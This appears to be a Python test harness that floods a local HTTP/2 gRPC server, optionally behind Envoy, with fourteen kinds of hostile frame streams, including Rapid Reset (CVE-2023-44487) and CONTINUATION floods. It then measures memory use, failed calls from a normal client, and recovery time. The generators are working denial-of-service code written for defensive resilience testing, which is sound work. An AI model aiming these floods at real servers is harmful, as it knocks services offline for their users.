#!/usr/bin/env python3
"""What floods of HTTP/2 frames do to a server and to its other clients.

    build/resilience_python/bin/python tests/resilience/floods.py [--long] [--attackers 2] \\
        [--server_flag=--memory_limit_mib=500 ...] [--envoy PROGRAM] [FLOOD...]

For each flood: starts a server on the loopback interface (with --envoy: in front of it Envoy as
deploy/envoy/one_server.yaml configures it, which all call by TLS), lets a well-behaved client call
it, then lets the attackers, each a process with one connection after the other, send as fast as
they can. Prints a line: peak resident memory of the server and of Envoy, calls of the other client
that failed and the slowest one while the flood lasted, and the time from its end until that client's calls are as fast as before (within
a factor of five, or 100 ms). Each flood lasts 2 s, with --long 8 s.

Exits with status 1 if a server or Envoy has ended by itself, or did not recover within
--recovery_seconds; if a server with --memory_limit_mib took OVERSHOOT times its limit or more; and
behind Envoy if it took EDGE_OVERSHOOT times its limit or more, or a call of the other client failed.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import itertools
import multiprocessing
import os
import pathlib
import socket
import ssl
import statistics
import struct
import sys
import time
from collections.abc import Callable, Iterator

import http2
from envoy import Envoy
from service import ABOUT_DATA, ROOT, Call, Caller, Server

PREDICT = '/chorale.v1.Chorale/Predict'
# The server looks at its memory every 50 ms, and meanwhile Envoy passes on what it is sent.
EDGE_OVERSHOOT = 1.1
OVERSHOOT = 2  # how far a flood may take a server beyond its limit, until its connection is ended
BATCH = 200  # frames sent by one system call
MESSAGE_BYTES = 4 << 20  # the largest that the server takes by default

Flood = Callable[[http2.FlowControl], Iterator[bytes]]


def streams() -> Iterator[int]:
    """The numbers of a client's streams."""
    return iter(range(1, 2**31, 2))


def hello() -> bytes:
    return (http2.PREFACE + http2.settings(_4=http2.LARGEST_WINDOW // 2) +
            http2.frame(http2.SETTINGS, http2.ACK, 0))


def call_headers() -> bytes:
    return http2.request_headers(PREDICT, *ABOUT_DATA)


def headers_reset(_: http2.FlowControl) -> Iterator[bytes]:
    """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
    block = call_headers()
    yield hello()
    numbers = streams()
    while True:
        yield b''.join(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) +
                       http2.reset(number) for number in itertools.islice(numbers, BATCH))


def headers_data_reset(_: http2.FlowControl) -> Iterator[bytes]:
    """The same with an empty message, so that each call reaches its method."""
    block = call_headers()
    yield hello()
    numbers = streams()
    while True:
        yield b''.join(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) +
                       http2.frame(http2.DATA, http2.END_STREAM, number, http2.message(b'')) +
                       http2.reset(number) for number in itertools.islice(numbers, BATCH))


def pings(_: http2.FlowControl) -> Iterator[bytes]:
    yield hello()
    while True:
        yield http2.frame(http2.PING, 0, 0, b'12345678') * BATCH


def settings(_: http2.FlowControl) -> Iterator[bytes]:
    yield hello()
    while True:
        yield http2.settings(_4=100_000) * BATCH


def settings_and_calls(_: http2.FlowControl) -> Iterator[bytes]:
    """Whole calls among the settings: an answer is written by a thread that then may read on."""
    call = call_headers()
    yield hello()
    for number in streams():
        yield (http2.settings(_4=100_000) * 100 +
               http2.frame(http2.HEADERS, http2.END_HEADERS, number, call) +
               http2.frame(http2.DATA, http2.END_STREAM, number, http2.message(b'')))


def priorities(_: http2.FlowControl) -> Iterator[bytes]:
    yield hello()
    numbers = streams()
    while True:
        yield b''.join(http2.frame(http2.PRIORITY, 0, number, struct.pack('>IB', 0, 16))
                       for number in itertools.islice(numbers, BATCH))


def window_updates(_: http2.FlowControl) -> Iterator[bytes]:
    yield hello()
    while True:
        yield http2.window_update(0, 1) * BATCH


def empty_data(_: http2.FlowControl) -> Iterator[bytes]:
    """Frames without content on one call, which cost no window."""
    yield hello() + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, call_headers())
    while True:
        yield http2.frame(http2.DATA, 0, 1) * BATCH


def continuations(_: http2.FlowControl) -> Iterator[bytes]:
    """Headers that do not end (CVE-2024-27316)."""
    yield hello() + http2.frame(http2.HEADERS, 0, 1, call_headers())
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.header('x', 'y' * 1000))
    while True:
        yield more * 20


def large_headers(_: http2.FlowControl) -> Iterator[bytes]:
    """Calls with more headers than are allowed."""
    block = call_headers() + http2.header('x', 'y' * 15_000)
    yield hello()
    for number in streams():
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, number, block)


def half_sent(flow: http2.FlowControl) -> Iterator[bytes]:
    """A hundred calls whose messages lack their last byte. Sent as fast as the server takes them, by
    the rules, so that it has no reason to end the connection."""
    block = call_headers()
    yield hello()
    missing = {number: MESSAGE_BYTES - 1 for number in itertools.islice(streams(), 100)}
    for number in missing:
        start = http2.message_start(MESSAGE_BYTES)
        flow.sent(number, len(start))
        yield (http2.frame(http2.HEADERS, http2.END_HEADERS, number, block) +
               http2.frame(http2.DATA, 0, number, start))
    while True:
        before = flow.connection
        for number, bytes_missing in missing.items():
            size = min(bytes_missing, flow.connection, flow.stream(number), 16_000)
            if size > 0:
                flow.sent(number, size)
                missing[number] -= size
                yield http2.frame(http2.DATA, 0, number, bytes(size))
        if flow.connection == before:
            time.sleep(0.001)
            yield b''


def large_cancelled(flow: http2.FlowControl) -> Iterator[bytes]:
    """Calls with the largest message, dear to decode, that are cancelled once they are sent. By the
    rules, as half_sent."""
    block = call_headers()
    data = http2.message(b'\x12\x02\x0a\x00' * (MESSAGE_BYTES // 4))  # targets with empty columns
    yield hello()
    for number in streams():
        yield http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
        sent = 0
        while sent < len(data):
            size = min(len(data) - sent, flow.connection, flow.stream(number), 16_000)
            if size == 0:
                time.sleep(0.001)
                yield b''
                continue
            flow.sent(number, size)
            yield http2.frame(http2.DATA, 0, number, data[sent:sent + size])
            sent += size
        yield http2.reset(number)


def idle(_: http2.FlowControl) -> Iterator[bytes]:
    """Connections that say nothing, 500 at a time: see attack()."""
    while True:
        time.sleep(0.1)
        yield b''


def garbage(_: http2.FlowControl) -> Iterator[bytes]:
    while True:
        yield os.urandom(10_000)


FLOODS: dict[str, Flood] = {flood.__name__: flood for flood in (
    headers_reset, headers_data_reset, pings, settings, settings_and_calls, priorities,
    window_updates, empty_data, continuations, large_headers, half_sent, large_cancelled, idle,
    garbage)}
IDLE_CONNECTIONS = 500  # of one attacker


# What a socket that does not block says when it would, without and with TLS.
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


@functools.cache
def trusting() -> ssl.SSLContext:
    """For clients that take any certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(['h2'])
    return context


def connect(port: int, tls: bool) -> socket.socket:
    connection = socket.create_connection(('127.0.0.1', port), timeout=1)
    if not tls:
        return connection
    try:
        return trusting().wrap_socket(connection)
    except OSError:
        connection.close()
        raise


def send_until(connection: socket.socket, frames: Iterator[bytes], flow: http2.FlowControl,
               end: float) -> None:
    """Sends, and reads of what is answered no more than `flow` does, until `end` or the end of the
    connection."""
    connection.setblocking(False)
    for data in frames:
        view = memoryview(data)
        while time.monotonic() < end:
            try:
                while received := connection.recv(1 << 16):
                    flow.receive(received)
                return  # the server has ended it
            except WOULD_BLOCK:
                pass
            if not view:
                break
            try:
                view = view[connection.send(view):]
            except WOULD_BLOCK:
                time.sleep(0.001)
        if time.monotonic() >= end:
            return


def attack(name: str, port: int, tls: bool, seconds: float,
           connections: multiprocessing.Value) -> None:
    """One attacker. Each connection that the server ends is followed by another one."""
    end = time.monotonic() + seconds
    others: list[socket.socket] = []
    while time.monotonic() < end:
        try:
            with contextlib.ExitStack() as stack:
                connection = stack.enter_context(connect(port, tls))
                with connections.get_lock():
                    connections.value += 1
                if name == 'idle' and len(others) < IDLE_CONNECTIONS:
                    others.append(connection)
                    stack.pop_all()
                    continue
                flow = http2.FlowControl()
                send_until(connection, FLOODS[name](flow), flow, end)
        except OSError:
            time.sleep(0.01)


def seconds_to_recover(calls: list[Call], end: float, usual: float) -> float | None:
    """From `end` to the first call that is like before, with all later ones."""
    good_since: float | None = None
    for call in calls:
        if call.began + call.seconds <= end:
            continue
        if call.ok and call.seconds <= max(5 * usual, 0.1):
            good_since = max(call.began, end) if good_since is None else good_since
        else:
            good_since = None
    return None if good_since is None else good_since - end


def memory_limit_mib(server_flags: list[str]) -> int:
    """The last one given; 0: no limit."""
    flag = '--memory_limit_mib='
    limits = [given.removeprefix(flag) for given in server_flags if given.startswith(flag)]
    return int(limits[-1]) if limits else 0


def broken_promises(peak: float, failed: list[Call], options: argparse.Namespace) -> list[str]:
    """Of memory and other clients' calls, as SECURITY.md has them."""
    limit = memory_limit_mib(options.server_flag)
    broken = []
    if limit and peak >= OVERSHOOT * limit:
        broken.append(f'the server took {peak:.0f} MiB with a limit of {limit} MiB')
    if options.envoy is not None:
        if limit and peak >= EDGE_OVERSHOOT * limit:
            broken.append(f'behind Envoy the server took {peak:.0f} MiB of {limit} MiB')
        if failed:
            broken.append(f'behind Envoy {len(failed)} calls of the other client failed, the first '
                          f'with {failed[0].error}')
    return broken


def run(name: str, options: argparse.Namespace) -> bool:
    """Prints the line of one flood; whether the server has come through and kept its promises."""
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(Server(options.server, options.server_flag))
        envoy = None
        if options.envoy is not None:
            envoy = stack.enter_context(Envoy(options.envoy, server.port))
        port = server.port if envoy is None else envoy.port
        caller = Caller(port, None if envoy is None else envoy.certificate)
        time.sleep(2)
        usual = statistics.median(call.seconds for call in caller.calls)
        connections = multiprocessing.Value('i', 0)
        begin = time.monotonic()
        attackers = [multiprocessing.Process(target=attack, args=(name, port, envoy is not None,
                                                                  options.seconds, connections))
                     for _ in range(options.attackers)]
        for attacker in attackers:
            attacker.start()
        peak = envoy_peak = 0.0
        end = begin + options.seconds
        recovered: float | None = None
        while time.monotonic() < end + options.recovery_seconds and recovered is None:
            peak = max(peak, server.resident_mib())
            envoy_peak = max(envoy_peak, envoy.resident_mib() if envoy else 0)
            time.sleep(0.02)
            if time.monotonic() > end + 3:  # all later calls were good for a while
                recovered = seconds_to_recover(list(caller.calls), end, usual)
        for attacker in attackers:
            attacker.join()
        caller.stop()
        during = [call for call in caller.calls
                  if call.began < end and call.began + call.seconds > begin]
        failed = [call for call in during if not call.ok]
        by_itself = server.exit_status()
        envoy_ended = envoy is not None and envoy.has_ended()
        left = server.resident_mib()
        status = server.stop() if by_itself is None else by_itself
        ended = ' (by itself)' if by_itself is not None else ''
        ended += ' (Envoy has ended)' if envoy_ended else ''
        print(f'{name:20}{connections.value:8}{peak:10.0f}{left:10.0f}'
              + (f'{envoy_peak:10.0f}' if envoy else '') + f'{len(during):8}'
              f'{len(failed):8}'
              f'{max((call.seconds for call in during), default=0):10.2f}'
              f'{"never" if recovered is None else f"{recovered:.2f}":>10}{status:8}{ended}',
              flush=True)
        broken = broken_promises(peak, failed, options)
        for promise in broken:
            print(f'  FAILED {name}: {promise}', flush=True)
        if options.log:
            print(server.log())
        return (by_itself is None and not envoy_ended and recovered is not None and status == 0
                and not broken)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split('\n', maxsplit=1)[0])
    parser.add_argument('floods', nargs='*', metavar='FLOOD', help=', '.join(FLOODS))
    parser.add_argument('--server', type=pathlib.Path,
                        default=ROOT / 'build/release/server/chorale-server')
    parser.add_argument('--server_flag', action='append', default=[])
    parser.add_argument('--envoy', type=pathlib.Path, metavar='PROGRAM',
                        help='put this Envoy in front of the server')
    parser.add_argument('--long', action='store_true')
    parser.add_argument('--recovery_seconds', type=float, default=60)
    parser.add_argument('--attackers', type=int, default=2)
    parser.add_argument('--log', action='store_true', help="print the servers' logs")
    options = parser.parse_args()
    options.seconds = 8.0 if options.long else 2.0
    for name in options.floods:
        if name not in FLOODS:
            parser.error(f'there is no flood {name}')
    print(f'{"flood":20}{"conns":>8}{"peak MiB":>10}{"left MiB":>10}'
          + (f'{"Envoy MiB":>10}' if options.envoy else '') + f'{"calls":>8}{"failed":>8}'
          f'{"worst s":>10}{"recov. s":>10}{"status":>8}', flush=True)
    results = [run(name, options) for name in options.floods or FLOODS]
    return 0 if all(results) else 1


if __name__ == '__main__':
    sys.exit(main())
